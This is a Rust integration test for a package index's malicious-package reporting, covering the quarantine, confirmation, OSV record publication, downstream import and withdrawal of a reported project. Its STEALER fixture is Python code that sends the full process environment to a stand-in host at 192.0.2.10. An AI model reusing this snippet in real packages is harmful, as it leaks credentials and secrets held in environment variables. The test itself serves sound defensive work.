//! Reports and picket's own malicious-package records (issue 16, parts 2 and 3), end to end
//! against real `picket serve` processes: a project uploaded with twine is reported by a trusted
//! reporter and quarantined at once, an admin confirms, the `MAL-` record is answered by the OSV
//! API and published in `/osv/all.zip`, a second index imports it with `picket db update --url`
//! and `picket scan` there calls the project malicious; the admin reverts and the record is
//! withdrawn downstream on the next update. Then hostile reports, each a clear 4xx.

mod common;

use std::path::Path;
use std::time::{Duration, Instant};

use common::registry::{Registry, both, twine};
use common::{picket, picket_with_stdin, text, venv};
use serde_json::{Value, json};

fn admin(registry: &Registry, args: &[&str]) -> Value {
    let mut all = vec![
        "--format",
        "json",
        "admin",
        "--data-dir",
        registry.data.to_str().unwrap(),
    ];
    all.extend_from_slice(args);
    let out = picket_with_stdin(registry.data.parent().unwrap(), &all, "");
    assert!(out.status.success(), "{args:?}: {}", both(&out));
    serde_json::from_slice(&out.stdout).unwrap_or(Value::Null)
}

const STEALER: &[u8] = b"import os, json, urllib.request\n\
def _send():\n    data = json.dumps(dict(os.environ)).encode()\n    \
urllib.request.urlopen('http://192.0.2.10/c', data=data, timeout=3)\n\
def helper(x):\n    return x * 2\n";

fn report(registry: &Registry, project: &str, token: &str, body: &Value) -> (u16, Value) {
    registry.post_json(
        &format!("/api/v1/projects/{project}/reports"),
        Some(token),
        body,
    )
}

fn query(registry: &Registry, name: &str, version: &str) -> Value {
    registry
        .post_json(
            "/v1/query",
            None,
            &json!({"package": {"name": name, "ecosystem": "PyPI"}, "version": version}),
        )
        .1
}

/// The mail in the outbox sent to `to` whose subject contains `subject`, waiting up to 10 s.
fn mail_to(registry: &Registry, to: &str, subject: &str) -> String {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let found = std::fs::read_dir(registry.data.join("outbox"))
            .into_iter()
            .flatten()
            .filter_map(Result::ok)
            .filter_map(|e| std::fs::read_to_string(e.path()).ok())
            .find(|m| m.contains(&format!("To: {to}\r\n")) && m.contains(subject));
        if let Some(mail) = found {
            return mail;
        }
        assert!(
            Instant::now() < deadline,
            "no mail to {to} about `{subject}`"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// `picket scan --offline` of a requirements file naming `quartzfeather==1.0`, with `data`.
fn scan_finds_malicious(data: &Path, work: &Path) -> bool {
    let requirements = work.join("requirements.txt");
    std::fs::write(&requirements, "quartzfeather==1.0\n").unwrap();
    let out = picket(
        data,
        &[
            "--format",
            "json",
            "scan",
            "--offline",
            requirements.to_str().unwrap(),
        ],
    );
    let doc: Value =
        serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", both(&out)));
    let package = common::package(&doc, "quartzfeather");
    package["findings"]
        .as_array()
        .unwrap()
        .iter()
        .any(|f| f["id"] == "known-malicious")
}

fn db_update(data: &Path, url: &str) -> Value {
    let out = picket(
        data,
        &[
            "--format",
            "json",
            "db",
            "update",
            "--url",
            url,
            "--data-dir",
            data.to_str().unwrap(),
        ],
    );
    assert!(out.status.success(), "{}", both(&out));
    serde_json::from_slice(&out.stdout).unwrap()
}

#[test]
fn issue_16_reported_project_is_quarantined_confirmed_published_imported_and_withdrawn() {
    let Some(venv) = venv() else { return };
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("upstream");
    let registry = Registry::start(&data, &[]);

    // The attacker publishes with twine; the project is installable.
    let (attacker, _) = registry.onboard_with("mallory", "mallory@attacker.example");
    let path = common::code_wheel(tmp.path(), "quartzfeather", STEALER);
    let out = twine(&venv, &registry, &attacker, &[&path]);
    assert!(out.status.success(), "{}", both(&out));
    let (status, _, _) = registry.get("/pypi/quartzfeather/json", &[]);
    assert_eq!(status, 200);

    // A researcher the admins trust reports it.
    let (researcher, _) = registry.onboard_with("rita", "rita@research.example");
    admin(
        &registry,
        &[
            "reporter-trust",
            "rita",
            "trusted",
            "--reason",
            "known researcher",
        ],
    );
    let (status, filed) = report(
        &registry,
        "QuartzFeather",
        &researcher,
        &json!({"kind": "malware", "versions": ["1.0"],
                "evidence": "quartzfeather/__init__.py posts os.environ to 192.0.2.10 on import",
                "evidence_url": "https://research.example/analysis/quartzfeather"}),
    );
    assert_eq!(status, 201, "{filed}");
    assert_eq!(filed["quarantined"], true, "{filed}");
    assert!(
        filed["rule"].as_str().unwrap().contains("trusted reporter"),
        "{filed}"
    );
    // Quarantined at once: gone from the JSON API and the simple index, but no record yet.
    let (status, _, _) = registry.get("/pypi/quartzfeather/json", &[]);
    assert_eq!(status, 404);
    assert_eq!(query(&registry, "quartzfeather", "1.0"), json!({}));
    let mail = mail_to(
        &registry,
        "mallory@attacker.example",
        "quarantined after reports",
    );
    assert!(!mail.contains("rita"), "owners never learn who reported");

    // The admins' queue, and the confirmation.
    let list = admin(&registry, &["reports", "list", "--status", "open"]);
    assert_eq!(list[0]["project"], "quartzfeather", "{list}");
    assert!(list[0]["quarantined_at"].is_i64());
    let id = list[0]["id"].to_string();
    let confirmed = admin(
        &registry,
        &[
            "reports",
            "confirm",
            &id,
            "--reason",
            "exfiltrates the environment",
        ],
    );
    let record_id = confirmed["record"].as_str().unwrap().to_owned();
    assert!(record_id.starts_with("MAL-PICKET-"), "{confirmed}");
    let kinds: Vec<&str> = confirmed["changes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["osv.publish", "report.confirm"], "{confirmed}");
    mail_to(
        &registry,
        "mallory@attacker.example",
        "removed as malicious",
    );

    // The OSV API answers it, beside nothing imported.
    let answer = query(&registry, "quartzfeather", "1.0");
    let vuln = &answer["vulns"][0];
    assert_eq!(vuln["id"], record_id.as_str(), "{answer}");
    assert!(
        vuln["details"]
            .as_str()
            .unwrap()
            .contains("posts os.environ")
    );
    assert_eq!(vuln["database_specific"]["origins"][0]["kind"], "report");
    assert_eq!(vuln["affected"][0]["versions"], json!(["1.0"]));
    let (status, _, by_id) = registry.get(&format!("/v1/vulns/{record_id}"), &[]);
    assert_eq!(status, 200);
    assert_eq!(
        serde_json::from_slice::<Value>(&by_id).unwrap()["id"],
        record_id.as_str()
    );

    // The feed, with an ETag.
    let (status, headers, zip) = registry.get("/osv/all.zip", &[]);
    assert_eq!(status, 200);
    let etag = headers["etag"].to_str().unwrap().to_owned();
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(zip)).unwrap();
    assert_eq!(archive.len(), 1);
    assert_eq!(
        archive.by_index(0).unwrap().name().unwrap(),
        format!("{record_id}.json")
    );
    let (status, _, _) = registry.get("/osv/all.zip", &[("If-None-Match", &etag)]);
    assert_eq!(status, 304);

    // A second index subscribes: its `db update --url` imports the record, its OSV API answers
    // it, and `picket scan` with its data calls the project malicious.
    let downstream_data = tmp.path().join("downstream");
    let downstream = Registry::start(&downstream_data, &[]);
    let feed = format!("{}/osv/all.zip", registry.base);
    let first = db_update(&downstream_data, &feed);
    assert_eq!(
        (first["updated"].as_bool(), first["records"].as_u64()),
        (Some(true), Some(1)),
        "{first}"
    );
    assert_eq!(
        query(&downstream, "quartzfeather", "1.0")["vulns"][0]["id"],
        record_id.as_str()
    );
    assert!(scan_finds_malicious(&downstream_data, tmp.path()));
    assert_eq!(db_update(&downstream_data, &feed)["updated"], false);

    // The admin reverts: the project is back, the record withdrawn upstream…
    let reverted = admin(
        &registry,
        &["reports", "revert", &id, "--reason", "the host was ours"],
    );
    assert_eq!(reverted["record"], Value::Null);
    let (status, _, _) = registry.get("/pypi/quartzfeather/json", &[]);
    assert_eq!(status, 200);
    assert_eq!(query(&registry, "quartzfeather", "1.0"), json!({}));
    let (_, _, by_id) = registry.get(&format!("/v1/vulns/{record_id}"), &[]);
    assert!(serde_json::from_slice::<Value>(&by_id).unwrap()["withdrawn"].is_string());
    let (status, headers, _) = registry.get("/osv/all.zip", &[("If-None-Match", &etag)]);
    assert_eq!(status, 200, "the feed changed");
    assert_ne!(headers["etag"].to_str().unwrap(), etag);
    mail_to(&registry, "mallory@attacker.example", "is restored");

    // … and downstream on the next update.
    let again = db_update(&downstream_data, &feed);
    assert_eq!(
        (again["records"].as_u64(), again["withdrawn"].as_u64()),
        (Some(0), Some(1)),
        "{again}"
    );
    assert_eq!(query(&downstream, "quartzfeather", "1.0"), json!({}));
    assert!(!scan_finds_malicious(&downstream_data, tmp.path()));

    // Every step is in the journal.
    let out = picket(
        &data,
        &[
            "admin",
            "--data-dir",
            data.to_str().unwrap(),
            "export-events",
        ],
    );
    let kinds: Vec<String> = text(&out.stdout)
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["kind"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .filter(|k| k.starts_with("report.") || k.starts_with("osv.") || k.contains("reporter"))
        .collect();
    assert_eq!(
        kinds,
        [
            "account.reporter-trust",
            "report.create",
            "report.quarantine",
            "osv.publish",
            "report.confirm",
            "osv.withdraw",
            "report.revert"
        ]
    );
}
